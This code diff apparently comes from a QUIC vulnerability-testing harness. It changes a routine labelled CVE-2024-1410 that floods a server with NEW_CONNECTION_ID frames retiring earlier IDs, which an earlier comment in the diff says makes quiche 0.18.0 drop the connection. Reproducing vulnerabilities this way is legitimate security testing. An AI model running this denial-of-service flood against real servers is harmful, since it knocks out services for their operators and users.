@@ -22,6 +22,8 @@ MAX_STREAM_DATA = b"\x11"
 DATAGRAM = b"\x30"
 LARGEST_VARINT = (1 << 62) - 1
 PACKET = 1150
+# aioquic has given out the ids before; others in their place would be a conflict, which ends the connection.
+FIRST_FREE_ID = 8
 
 
 def stream_frame(stream, offset, data, end=False):
@@ -103,10 +105,13 @@ def path_challenges(request):
 
 
 def connection_ids(request):
-    """CVE-2024-1410: NEW_CONNECTION_ID that retires all before it, again and again; the answers are not acknowledged."""
-    # Two a packet: after a few packets full of them quiche 0.18.0 refuses one and ends the connection itself.
-    frames = (new_connection_id(i, i) for i in range(1, request["packets"] * 2))
-    return flood(connected(request), packed(frames, 80), quiet=True)
+    """CVE-2024-1410: NEW_CONNECTION_ID that retires all before it, again and again; the answers are not acknowledged.
+
+    The server's last words go to an id that aioquic does not know; only the server can say what it did.
+    """
+    frames = (new_connection_id(i, i) for i in range(FIRST_FREE_ID, request["packets"] * 33))
+    result = flood(connected(request), packed(frames), quiet=True, burst=8, linger=0.5)
+    return {"sent": result["sent"]}
 
 
 def fragments(request):
@@ -192,7 +197,7 @@ def retire_active(request):
 def retiring(source):
     kind = source.random()
     if kind < 0.7:
-        sequence = source.randrange(0, 8)
+        sequence = source.randrange(FIRST_FREE_ID, FIRST_FREE_ID + 8)
         # The same sequence number must come with the same id.
         return new_connection_id(sequence, source.randrange(0, sequence + 1), bytes([sequence]) * 8)[:-16] + bytes(16)
     if kind < 0.85:
